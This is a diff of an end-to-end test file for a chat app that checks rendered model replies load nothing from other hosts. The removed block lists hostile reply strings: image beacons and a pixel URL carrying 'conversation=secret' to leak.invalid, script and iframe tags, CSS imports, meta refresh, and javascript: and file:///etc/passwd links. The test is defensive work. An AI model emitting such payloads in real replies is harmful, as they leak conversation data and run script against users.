@@ -1,6 +1,7 @@
 import { afterEach, beforeEach, expect, it } from "vitest";
 import type { Page } from "playwright-core";
 import { expectAccessible } from "./accessible.ts";
+import { HOSTILE_TEXTS } from "../fixtures/hostile-texts.ts";
 import { openTunewright, type Tunewright } from "./harness.ts";
 import { type Simulator, startSimulator } from "../simulator/simulator.ts";
 import { simulated } from "../simulator/environment.ts";
@@ -14,20 +15,8 @@ const PATIENT = { timeout: 20_000 };
 /** Words that say their own place, so that one lost or said twice shows. */
 const COUNTED = Array.from({ length: 120 }, (_, at) => `word${at}`).join(" ");
 
-/** Ways in which a reply has tried to load something, or to lead away. */
-const HOSTILE = [
-  "<img src=https://leak.invalid/a.png onerror=alert(1)>",
-  "![pixel](https://leak.invalid/p.png?conversation=secret)",
-  "[![nested](https://leak.invalid/n.png)](https://example.org)",
-  "![reference][r]\n\n[r]: https://leak.invalid/r.png",
-  "<iframe src='https://leak.invalid'></iframe><script src='https://leak.invalid/s.js'></script>",
-  "<div style='background:url(https://leak.invalid/x)'>a</div><style>@import url(https://leak.invalid)</style>",
-  "<video src=https://leak.invalid autoplay></video><link rel=stylesheet href=https://leak.invalid>",
-  "<meta http-equiv=refresh content='0;url=https://leak.invalid'>",
-  "[click](javascript:alert(1)) [file](file:///etc/passwd) [plain](//leak.invalid)",
-  "```html\n<script>fetch('https://leak.invalid')</script>\n```",
-  "The end of it.",
-].join("\n\n");
+/** Everything that texts have tried, in one reply that ends with a plain line. */
+const HOSTILE = [...HOSTILE_TEXTS, "The end of it."].join("\n\n");
 
 let simulator: Simulator;
 let tunewright: Tunewright;
@@ -167,7 +156,9 @@ it("asks nobody else for anything, whatever a model replies", async () => {
   const links = await pane(OPENAI)
     .getByRole("link")
     .evaluateAll((all) => all.map((link) => link.getAttribute("href")));
-  for (const link of links) expect(link).toMatch(/^https:\/\//);
+  for (const link of links) expect(link).toMatch(/^(https?:\/\/|mailto:|#)/);
+  const loading = "script, img, iframe, object, embed, form, style, link, meta, base, video, audio";
+  expect(await lastReply(OPENAI).locator(loading).count()).toBe(0);
 });
 
 it("renames a chat, and gives a deleted one back on Undo", async () => {
@@ -211,9 +202,11 @@ it("leads into the studio with exactly the conversations of this chat", async ()
   const examples = page.getByRole("list", { name: "Examples" }).getByRole("listitem");
   await expect.poll(() => examples.count(), PATIENT).toBe(2);
   expect(await page.getByText("Not this one.").count()).toBe(0);
-  // One question to two models: nothing can be held back, which must be said and not hide the examples.
+  // Of a handful nothing is held back unless it is asked for; and here it cannot be: both examples open alike.
+  const holding = page.getByRole("checkbox", { name: "Hold examples back for validation" });
+  await holding.click();
   await page.getByText("Nothing can be held back", { exact: true }).waitFor();
-  await page.getByRole("checkbox", { name: "Hold examples back for validation" }).click();
+  await holding.click();
   await page.getByText("2 training examples").waitFor();
   expect(await page.getByRole("button", { name: "Write the file" }).isEnabled()).toBe(true);
   await expect.poll(() => examples.getByText(/Reply \d to: This one\./).count(), PATIENT).toBe(2);
